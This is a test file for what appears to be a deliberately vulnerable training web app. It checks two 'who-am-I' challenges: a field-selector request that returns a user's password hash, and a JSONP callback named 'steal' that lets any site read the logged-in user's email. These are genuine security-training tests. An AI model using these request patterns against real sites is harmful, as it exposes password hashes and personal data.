import { beforeEach, describe, expect, it } from "vitest";
import { bearer, call, isSolved, resetInstance, tokenFor } from "../support/instance";
import { persona } from "../support/seed";

describe("the who-am-I endpoint tells more than who you are", () => {
  let token: string;
  beforeEach(async () => {
    await resetInstance();
    token = await tokenFor(persona("emma").email, persona("emma").password);
  });

  it("passwordHashLeakChallenge: its field selector hands out the password hash", async () => {
    const response = await call("/rest/user/whoami?fields=email,password", { headers: { Cookie: `token=${token}` } });
    expect(response.status).toBe(200);
    expect((await response.json()).user.password).toMatch(/^[0-9a-f]{32}$/);
    expect(await isSolved("passwordHashLeakChallenge")).toBe(true);
  });

  it("emailLeakChallenge: with a callback it answers as a script any site can include", async () => {
    const response = await call("/rest/user/whoami?callback=steal", { headers: { Cookie: `token=${token}` } });
    expect(response.headers.get("Content-Type")).toMatch(/^application\/javascript/);
    const script = await response.text();
    expect(script).toContain(persona("emma").email);
    // Run it as the including page would.
    let stolen: { user: { email: string } } | undefined;
    new Function("steal", script)((data: typeof stolen) => (stolen = data));
    expect(stolen!.user.email).toBe(persona("emma").email);
    expect(await isSolved("emailLeakChallenge")).toBe(true);
  });

  it("the page's own who-am-I solves neither", async () => {
    const response = await call("/rest/user/whoami", { headers: bearer(token) });
    expect(await response.json()).toEqual({
      user: { id: expect.any(Number), email: persona("emma").email, lastLoginIp: expect.any(String), profileImage: expect.any(String) },
    });
    expect((await (await call("/rest/user/whoami")).json()).user).toEqual({});
    expect(await isSolved("passwordHashLeakChallenge")).toBe(false);
    expect(await isSolved("emailLeakChallenge")).toBe(false);
  });
});
